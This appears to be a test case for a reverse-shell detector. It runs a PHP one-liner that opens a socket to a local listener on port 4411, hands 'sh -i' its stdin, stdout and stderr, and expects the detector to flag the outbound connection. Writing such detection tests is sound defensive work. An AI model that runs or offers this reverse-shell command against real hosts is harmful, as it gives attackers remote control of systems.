# R11: php gives its connection to a shell
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4411

#: prepare
. lib/peers.sh
peer 4411
#: act
. lib/peers.sh
act
php -r '$s = fsockopen("127.0.0.1", 4411);
$p = proc_open("sh -i", [$s, $s, $s], $pipes); proc_close($p);' \
  < /dev/null > /dev/null 2>&1 & fact php $!
who shell 'sh -i'
await 'at $shell 0 socket:* && same $shell 0 $shell 1'
